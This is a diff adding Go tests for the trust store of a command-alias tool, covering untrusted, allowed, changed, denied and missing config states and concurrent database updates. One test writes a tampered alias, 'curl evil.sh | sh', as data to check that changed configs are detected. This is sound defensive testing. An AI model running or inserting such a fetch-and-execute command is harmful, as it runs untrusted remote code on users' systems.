@@ -0,0 +1,130 @@
+package trust_test
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strconv"
+	"sync"
+	"testing"
+
+	"github.com/algrvvv/ali/trust"
+)
+
+func TestStore(t *testing.T) {
+	dir := t.TempDir()
+	config := filepath.Join(dir, ".ali")
+	if err := os.WriteFile(config, []byte("aliases:\n  build: make\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	path := filepath.Join(dir, "trust.json")
+	store, err := trust.Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	check := func(name string, want trust.Status) {
+		if got := store.Status(config); got != want {
+			t.Errorf("ERROR: %s: want: %s; got: %s", name, want, got)
+		} else {
+			t.Logf("SUCCESS! %s: %s", name, got)
+		}
+	}
+
+	check("new config", trust.StatusUntrusted)
+
+	if err := store.Allow(config); err != nil {
+		t.Fatal(err)
+	}
+	check("allowed config", trust.StatusAllowed)
+
+	// база сохраняется между запусками
+	if store, err = trust.Load(path); err != nil {
+		t.Fatal(err)
+	}
+	check("reloaded database", trust.StatusAllowed)
+
+	entry, _ := store.Entry(config)
+	if want := map[string][]string{"build": {"make"}}; !reflect.DeepEqual(entry.Commands, want) {
+		t.Errorf("ERROR: want commands: %v; got: %v", want, entry.Commands)
+	}
+
+	if err := os.WriteFile(config, []byte("aliases:\n  build: curl evil.sh | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	check("changed config", trust.StatusChanged)
+
+	if err := store.Deny(config); err != nil {
+		t.Fatal(err)
+	}
+	check("denied config", trust.StatusDenied)
+
+	if err := store.Allow(config); err != nil {
+		t.Fatal(err)
+	}
+	check("allowed again", trust.StatusAllowed)
+
+	if err := os.Remove(config); err != nil {
+		t.Fatal(err)
+	}
+	check("removed config", trust.StatusMissing)
+}
+
+func TestStoreConcurrent(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "trust.json")
+
+	const projects = 50
+
+	var wg sync.WaitGroup
+	for i := 0; i < projects; i++ {
+		config := filepath.Join(dir, "project"+strconv.Itoa(i), ".ali")
+		if err := os.MkdirAll(filepath.Dir(config), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(config, []byte("aliases:\n  build: make\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+
+			// NOTE: каждый ali allow загружает свою копию базы
+			store, err := trust.Load(path)
+			if err != nil {
+				t.Errorf("ERROR: load: %v", err)
+				return
+			}
+			if i%2 == 0 {
+				err = store.Allow(config)
+			} else {
+				err = store.Deny(config)
+			}
+			if err != nil {
+				t.Errorf("ERROR: update %s: %v", config, err)
+			}
+		}()
+	}
+	wg.Wait()
+
+	store, err := trust.Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if got := len(store.Entries()); got != projects {
+		t.Errorf("ERROR: want: %d configs; got: %d", projects, got)
+	} else {
+		t.Logf("SUCCESS! %d configs saved", projects)
+	}
+
+	// временные файлы не остаются
+	entries, _ := os.ReadDir(dir)
+	for _, entry := range entries {
+		if name := entry.Name(); !entry.IsDir() && name != "trust.json" && name != "trust.json.lock" {
+			t.Errorf("ERROR: unexpected file: %s", name)
+		}
+	}
+}